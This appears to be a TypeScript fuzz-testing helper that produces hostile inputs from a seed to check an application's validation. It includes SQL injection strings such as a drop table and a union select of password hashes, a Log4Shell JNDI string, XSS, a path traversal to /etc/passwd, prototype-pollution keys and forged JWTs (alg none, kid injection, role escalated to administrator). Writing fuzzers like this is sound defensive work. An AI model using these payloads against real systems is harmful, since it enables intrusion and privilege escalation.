/** Values and requests that nobody means well with. Everything comes from one seed, so that a run can be repeated. */

/** A small generator of numbers (mulberry32): the same seed, the same numbers. */
export class Chance {
  constructor(private state: number) {}

  next(): number {
    this.state = (this.state + 0x6d2b79f5) | 0;
    let t = Math.imul(this.state ^ (this.state >>> 15), 1 | this.state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  }

  below(n: number): number {
    return Math.floor(this.next() * n);
  }

  one<T>(list: readonly T[]): T {
    return list[this.below(list.length)]!;
  }

  /** True once in so many times. */
  rarely(times: number): boolean {
    return this.below(times) === 0;
  }
}

/** What must never stand in a log: if it does, so would what people really type there. */
export const MARKERS = {
  email: 'zq7marker.officer@leak.example',
  telephone: '+5561977771234',
  password: 'Zq7MarkerPasswordThatNobodyHas',
  token: 'Zq7MarkerTokenThatNobodyMade0123456789abcdef',
} as const;

export const TEXTS: readonly string[] = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  'x\udfff',
  '\u202egnp.exe',
  '\u200b',
  '\ufeff',
  '\r\nX-Forged: 1',
  "' or 1=1 --",
  `"; drop table app_user; --`,
  `') union select password_hash from app_user --`,
  '%',
  '%_%\\',
  '${jndi:ldap://x.example}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://x.example")',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'NaN',
  '-1',
  '0x10',
  '1e309',
  '9'.repeat(400),
  'a'.repeat(10_000),
  'é'.repeat(5_000),
  '👩‍👩‍👧‍👦'.repeat(500),
  '(('.repeat(2_000),
  'a'.repeat(300) + '!',
  '0000-00-00',
  '2026-02-30',
  '+275760-09-13',
  '9999-12-31',
  '0001-01-01',
  '-000001-01-01',
  '2026-11-24T00:00:00Z',
  '2026-11-24T99:99:99Z',
  '0000-01-01T00:00:00Z',
  '9999-12-31T23:59:59.999999Z',
  '2026-11-24T00:00:00+99:99',
  '2026-W48-2T10:00:00Z',
  '2026-328T10:00:00Z',
  'zz',
  'BR',
  'A-55',
  'en',
  'x-private',
  'America/Sao_Paulo',
  'Etc/GMT+99',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'https://x.example/'.padEnd(3_000, 'a'),
  MARKERS.email,
  MARKERS.telephone,
  MARKERS.password,
  MARKERS.token,
];

const KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'then',
  'toJSON',
  'status',
  'role',
  'version',
  'verifiedBy',
  'demo',
  'id',
  '',
  '0',
  'a.b',
  '$where',
  '\0',
  'e'.repeat(5_000),
];

/** Any value at all, of any type. */
export function anyValue(chance: Chance, depth = 0): unknown {
  switch (chance.below(depth > 3 ? 6 : 9)) {
    case 0:
      return null;
    case 1:
      return chance.rarely(2);
    case 2:
      return chance.one([0, -1, 1.5, 1e21, -1e308, Number.MAX_SAFE_INTEGER, 2 ** 31, 2 ** 63, 7]);
    case 3:
    case 4:
    case 5:
      return chance.one(TEXTS);
    case 6:
      return Array.from({ length: chance.one([0, 1, 3, 200]) }, () => anyValue(chance, depth + 2));
    case 7:
      return Object.fromEntries(
        Array.from({ length: chance.below(4) }, () => [chance.one(KEYS), anyValue(chance, depth + 1)]),
      );
    default:
      return nested(chance.one([2, 20, 2_000]));
  }
}

const nested = (depth: number): unknown => {
  let value: unknown = 'deep';
  for (let i = 0; i < depth; i += 1) value = i % 2 === 0 ? [value] : { a: value };
  return value;
};

/** The same value with one thing in it made hostile: a field, its name, or all of it. */
export function spoiled(chance: Chance, value: unknown): unknown {
  if (chance.rarely(12) || typeof value !== 'object' || value === null) return anyValue(chance);
  if (Array.isArray(value)) {
    if (value.length === 0 || chance.rarely(4)) return [...(value as unknown[]), anyValue(chance)];
    const at = chance.below(value.length);
    return value.map((one: unknown, i) => (i === at ? spoiled(chance, one) : one));
  }
  const entries = Object.entries(value);
  if (entries.length === 0 || chance.rarely(4)) {
    // An own property, also where its name is `__proto__`.
    return Object.fromEntries([...entries, [chance.one(KEYS), anyValue(chance)]]);
  }
  const at = chance.below(entries.length);
  if (chance.rarely(8)) return Object.fromEntries(entries.filter((_, i) => i !== at));
  return Object.fromEntries(entries.map(([key, one], i) => [key, i === at ? spoiled(chance, one) : one]));
}

/** JSON text that is nearly right. */
export function spoiledText(chance: Chance, text: string): string {
  switch (chance.below(8)) {
    case 0:
      return text.slice(0, chance.below(text.length + 1));
    case 1:
      return `${text}${text}`;
    case 2:
      return text.replace(/"/, "'");
    case 3:
      return text.replace(/:/, ':\u0000');
    case 4:
      return `${'['.repeat(50_000)}${text}`;
    case 5:
      return text.replace(/^\{/, '{"__proto__":{"role":"administrator"},"a":1,"a":2,');
    case 6:
      return text.replace(/"([^"]*)"/, '"\\ud800\\u0000$1"');
    default:
      return 'x'.repeat(2 ** 20 + 1 + chance.below(10));
  }
}

const b64 = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');

/** An access token's forgeries: other algorithms, types, keys and claims. */
export function forgedToken(chance: Chance, real: string): string {
  const [head = '', payload = '', signature = ''] = real.split('.');
  const claims = JSON.parse(Buffer.from(payload, 'base64url').toString() || '{}') as object;
  const header = chance.one<object>([
    { alg: 'none', typ: 'at+jwt' },
    { alg: 'None' },
    { alg: 'HS256', typ: 'JWT' },
    { alg: 'HS256', typ: 'at+jwt', kid: '../../dev/null' },
    { alg: 'HS256', typ: 'at+jwt', kid: "' union select 'key' --" },
    { alg: 'HS256', typ: 'at+jwt', jku: 'http://127.0.0.1:1/keys' },
    { alg: 'HS256', typ: 'at+jwt', jwk: { kty: 'oct', k: 'AAAA' } },
    { alg: 'RS256', typ: 'at+jwt' },
    { alg: 'ES256', typ: 'at+jwt' },
    { alg: 'HS512', typ: 'at+jwt' },
    { alg: 'HS256', typ: 'at+jwt', b64: false, crit: ['b64'] },
  ]);
  return chance.one([
    `${b64(header)}.${payload}.`,
    `${b64(header)}.${payload}.${signature}`,
    `${head}.${b64({ ...claims, role: 'administrator' })}.${signature}`,
    `${head}.${payload}.${signature.slice(1)}A`,
    `${head}.${payload}`,
    'enl_00000000-0000-0000-0000-000000000000_' + 'A'.repeat(43),
    'enl_not-a-key',
    MARKERS.token,
    'null',
    '.'.repeat(500),
    'A'.repeat(6_000),
  ]);
}
